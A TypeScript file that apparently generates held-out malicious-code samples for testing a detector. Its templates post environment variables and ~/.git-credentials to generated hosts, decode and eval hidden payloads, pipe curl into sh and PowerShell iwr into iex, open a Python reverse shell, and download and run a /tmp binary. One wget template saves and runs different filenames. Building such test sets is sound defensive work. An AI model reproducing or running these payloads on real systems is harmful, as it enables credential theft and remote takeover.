import { type Draw, hidden } from './draw.ts'
import { families } from './family.ts'

const wrap = (draw: Draw, body: string): string => draw.filler('js') + body + draw.filler('js')
const wrapPython = (draw: Draw, body: string): string => draw.filler('python') + body + draw.filler('python')

/** Attacks that were written after the first look at others had led to repairs, and measured once before any further one. */
export const SECOND_ATTACKS = families(
  { isAttack: true, isHeld: true },
  {
    'posts variables by a class': [
      'js',
      (draw) =>
        wrap(
          draw,
          `class Report {\n  constructor(url) { this.url = url; this.body = '' }\n  collect() { this.body = JSON.stringify(process.env) }\n  async send() { await fetch(this.url, { method: 'POST', body: this.body }) }\n}\nconst report = new Report('https://${draw.host()}')\nreport.collect()\nreport.send()\n`,
        ),
    ],
    'reads a token and posts it': [
      'js',
      (draw) =>
        wrap(
          draw,
          `import { readFile } from 'node:fs/promises'\nimport { homedir } from 'node:os'\nconst text = await readFile(\`\${homedir()}/.git-credentials\`, 'utf8')\nawait fetch('https://${draw.host()}/up', { method: 'PUT', body: text })\n`,
        ),
    ],
    'requires by a string table': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const t = ['ZXhlYw==', 'Y2hpbGRfcHJvY2Vzcw==', '${hidden(draw).slice(0, 80)}'].map((one) => Buffer.from(one, 'base64').toString())\nrequire(t[1])[t[0]](t[2])\n`,
        ),
    ],
    'evaluates through a timer': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const code = Buffer.from('${hidden(draw)}', 'base64').toString()\nsetTimeout(code, ${1000 + draw.number(9000)})\n`,
        ),
    ],
    'gets code with axios and a promise': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const axios = require('axios')\nconst load = async () => {\n  const { data } = await axios.get('https://${draw.host()}/api')\n  return data\n}\nload().then((found) => eval(found.cookie))\n`,
        ),
    ],
    'runs a script of a bucket': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const { execSync } = require('child_process')\nif (process.platform === 'linux') execSync('curl -s http://${draw.host()}/l.sh | sh')\nelse execSync('powershell -c "iwr http://${draw.host()}/w.ps1 | iex"')\n`,
        ),
    ],
    'hides in an image': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const fs = require('fs')\nconst picture = fs.readFileSync(__dirname + '/logo.png').toString('latin1')\nconst found = picture.slice(picture.indexOf('${draw.name()}') + 8)\nnew Function('require', Buffer.from(found, 'base64').toString())(require)\n`,
        ),
    ],
    'deciphers with a key': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const crypto = require('crypto')\nconst d = crypto.createDecipheriv('aes-256-cbc', Buffer.from('${'ab'.repeat(32)}', 'hex'), Buffer.alloc(16))\nlet out = d.update('${hidden(draw, 'hex')}', 'hex', 'utf8')\nout += d.final('utf8')\neval(out)\n`,
        ),
    ],
    'posts what git knows': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const { execSync } = require('child_process')\nconst who = execSync('whoami').toString() + execSync('git config --global user.email')\nrequire('https').get('https://${draw.host()}/?w=' + encodeURIComponent(who))\n`,
        ),
    ],
    'executes in a thread': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import threading, base64\n\ndef work(blob):\n    exec(base64.b64decode(blob).decode())\n\nthreading.Thread(target=work, args=("${hidden(draw)}",)).start()\n`,
        ),
    ],
    'posts with a session': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import os, json, urllib.request\n\ndef gather():\n    return {key: value for key, value in os.environ.items()}\n\nbody = json.dumps(gather()).encode()\nurllib.request.urlopen(urllib.request.Request("https://${draw.host()}", data=body))\n`,
        ),
    ],
    'takes orders in Python': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import socket, subprocess\nlink = socket.create_connection(("${draw.host()}", 443))\nwhile True:\n    order = link.recv(1024).decode()\n    link.send(subprocess.getoutput(order).encode())\n`,
        ),
    ],
    'joins letters': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `code = "".join(map(chr, [${Array.from(Buffer.from('print("nothing at all to see here, move along")')).join(', ')}]))\nexec(code)\n`,
        ),
    ],
    'runs a file of a release': [
      'shell',
      (draw) => `wget -q https://${draw.host()}/t -O /tmp/.${draw.name()} ; chmod 755 /tmp/.t ; /tmp/.t &`,
    ],
  },
)
